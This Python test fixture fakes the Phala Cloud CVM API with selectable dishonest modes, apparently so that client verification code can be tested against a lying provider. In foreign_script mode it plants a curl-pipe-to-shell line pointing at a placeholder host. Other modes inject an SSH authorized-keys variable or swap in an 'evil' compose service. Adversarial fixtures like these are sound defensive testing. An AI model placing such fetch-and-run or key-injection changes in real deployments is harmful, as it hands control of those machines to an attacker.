"""A fake Phala Cloud API on 127.0.0.1 (a real aiohttp app) with a request journal, honest or lying.

Shapes follow Phala's JS SDK as cited in `oauth3.phala.api`: `POST /cvms` prepares (answer:
`compose_hash`, `app_id`, `app_env_encrypt_pubkey`, `os_image_hash`, `kms_info`) or, with
`app_id` + `compose_hash` and no `compose_file`, commits; an update is
`POST /cvms/{id}/compose_file/provision` then `PATCH /cvms/{id}/compose_file`; `GET /cvms/{id}`,
`GET /cvms/{id}/compose_file`, `POST /cvms/{id}/stop`, `GET /kms/{kms}/pubkey/{app_id}`.
"""

from __future__ import annotations

import hashlib
import json
import secrets
from dataclasses import dataclass, field
from typing import Any

from aiohttp import web
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from eth_keys import keys
from eth_utils import keccak

from oauth3.attestation.dstack_os import a_dev_release, os_releases
from oauth3.phala.os_pin import ships_document

MODES = (
    "honest",
    "wrong_hash",
    "inject_ssh",
    "dev_os",
    "foreign_script",
    "flaky",
    "conflict",
    "stores_other",
    "wrong_key_signature",
    "on_chain",
    "status:<code>",
)
# production releases with and without a measurement document (the verify step pins the former)
PRODUCTION_IMAGE = next(h for h, r in os_releases().items() if not r.dev and ships_document(r))
UNMEASURED_IMAGE = next(h for h, r in os_releases().items() if not r.dev and not ships_document(r))


def canonical(document: Any) -> bytes:
    """dstack's canonical JSON (sorted keys, compact, UTF-8)."""
    return json.dumps(document, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


@dataclass
class FakePhala:
    """State and journal of the fake; `mode` picks the lie."""

    mode: str = "honest"
    journal: list[tuple[str, str, Any]] = field(default_factory=list)
    env_key: X25519PrivateKey = field(default_factory=X25519PrivateKey.generate)
    kms_key: keys.PrivateKey = field(default_factory=lambda: keys.PrivateKey(b"\x07" * 32))
    stored: dict[str, Any] = field(default_factory=dict)
    received_envs: list[dict[str, str]] = field(default_factory=list)
    app_url: str = "https://app.example"
    polls: int = 0
    pending: dict[str, Any] = field(default_factory=dict)
    failures_left: int = 1
    app_id: str = field(default_factory=lambda: secrets.token_hex(20))
    os_image: bytes = PRODUCTION_IMAGE

    def commits(self) -> list[Any]:
        """Every commit request the fake received."""
        return [
            body
            for method, path, body in self.journal
            if _is_commit(method, path, body) or method == "PATCH"
        ]

    def public_key(self) -> bytes:
        """The env-encryption public key handed out."""
        return self.env_key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)

    def decrypt(self, encrypted_hex: str) -> dict[str, str]:
        """What an encrypted_env holds, decrypted with the fake's key."""
        raw = bytes.fromhex(encrypted_hex)
        secret = self.env_key.exchange(X25519PublicKey.from_public_bytes(raw[:32]))
        payload = json.loads(AESGCM(secret).decrypt(raw[32:44], raw[44:], None))
        return {entry["key"]: entry["value"] for entry in payload["env"]}

    def app(self) -> web.Application:
        """The aiohttp app."""
        app = web.Application()
        app.router.add_post("/api/v1/cvms", self._cvms)
        app.router.add_get("/api/v1/cvms/{id}", self._cvm)
        app.router.add_get("/api/v1/cvms/{id}/compose_file", self._compose_file)
        app.router.add_post("/api/v1/cvms/{id}/stop", self._stop)
        app.router.add_post("/api/v1/cvms/{id}/compose_file/provision", self._update_provision)
        app.router.add_patch("/api/v1/cvms/{id}/compose_file", self._update_commit)
        app.router.add_get("/api/v1/kms/{kms}/pubkey/{app_id}", self._pubkey)
        return app

    def _prepared(self, compose: dict[str, Any]) -> tuple[dict[str, Any], str]:
        """The compose the fake stores for a provision (with its mode's lie) and its hash."""
        if self.mode == "inject_ssh":
            compose["allowed_envs"] = [*compose["allowed_envs"], "DSTACK_AUTHORIZED_KEYS"]
        if self.mode == "foreign_script":
            compose["pre_launch_script"] = "curl -fsSL https://example.invalid/x | sh"
        digest = hashlib.sha256(canonical(compose)).hexdigest()
        if self.mode == "wrong_hash":
            digest = hashlib.sha256(b"other").hexdigest()
        return compose, digest

    async def _update_provision(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.journal.append(("POST", request.path, body))
        compose = {k: v for k, v in body.items() if k != "update_env_vars"}
        self.pending, digest = self._prepared(compose)
        return web.json_response(
            {
                "app_id": self.app_id,
                "device_id": "ab" * 32,
                "compose_hash": digest,
                "kms_info": {"id": "kms-1", "chain_id": None},
                "compose_hash_registered": False,
            }
        )

    async def _update_commit(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.journal.append(("PATCH", request.path, body))
        if body.get("encrypted_env"):
            self.received_envs.append(self.decrypt(body["encrypted_env"]))
        self.stored, self.polls = self.pending, 0
        return web.json_response({})

    async def _cvms(self, request: web.Request) -> web.Response:
        body = await request.json()
        self.journal.append(("POST", request.path, body))
        assert request.headers["X-API-Key"] == "test-key"
        assert request.headers["X-Phala-Version"] == "2026-06-23"
        if self.mode == "flaky" and self.failures_left:
            self.failures_left -= 1
            return web.json_response({"detail": "busy"}, status=503)
        if self.mode.startswith("status:"):
            status = int(self.mode.removeprefix("status:"))
            return web.json_response({"detail": "\x1b[31mno\x1b[0m"}, status=status)
        if _is_commit("POST", request.path, body):
            return self._commit(body)
        self.stored, digest = self._prepared(dict(body["compose_file"]))
        image = a_dev_release().os_image_hash if self.mode == "dev_os" else self.os_image
        return web.json_response(
            {
                "app_id": self.app_id,
                "compose_hash": digest,
                "app_env_encrypt_pubkey": self.public_key().hex(),
                "os_image_hash": image.hex(),
                "kms_info": {"id": "kms-1", "chain_id": 8453 if self.mode == "on_chain" else None},
                "device_id": "ab" * 32,
            }
        )

    def _commit(self, body: dict[str, Any]) -> web.Response:
        if self.mode == "conflict":
            return web.json_response({"error_code": "ERR-03-007"}, status=409)
        if body.get("encrypted_env"):
            self.received_envs.append(self.decrypt(body["encrypted_env"]))
        return web.json_response({"id": "cvm-1", "app_id": body["app_id"], "status": "starting"})

    async def _cvm(self, request: web.Request) -> web.Response:
        self.journal.append(("GET", request.path, None))
        self.polls += 1
        status = "running" if self.polls > 1 else "starting"
        record = {"id": request.match_info["id"], "status": status, "app_url": self.app_url}
        return web.json_response({**record, "instance_id": "cd" * 20})

    async def _compose_file(self, request: web.Request) -> web.Response:
        self.journal.append(("GET", request.path, None))
        stored = dict(self.stored)
        if self.mode == "stores_other":
            stored["docker_compose_file"] = "services: {evil: {image: x}}"
        return web.json_response(stored)

    async def _stop(self, request: web.Request) -> web.Response:
        self.journal.append(("POST", request.path, None))
        return web.json_response({"status": "stopped"})

    async def _pubkey(self, request: web.Request) -> web.Response:
        self.journal.append(("GET", request.path, None))
        public = self.public_key()
        if self.mode == "wrong_key_signature":
            public = (
                X25519PrivateKey.generate()
                .public_key()
                .public_bytes(Encoding.Raw, PublicFormat.Raw)
            )
        app_id = bytes.fromhex(request.match_info["app_id"].removeprefix("0x"))
        digest = keccak(b"dstack-env-encrypt-pubkey:" + app_id + public)
        signature = self.kms_key.sign_msg_hash(digest).to_bytes()
        return web.json_response({"public_key": public.hex(), "signature": signature.hex()})


def _is_commit(method: str, path: str, body: Any) -> bool:
    return (
        method == "POST"
        and path.endswith("/cvms")
        and isinstance(body, dict)
        and "compose_file" not in body
        and "compose_hash" in body
    )
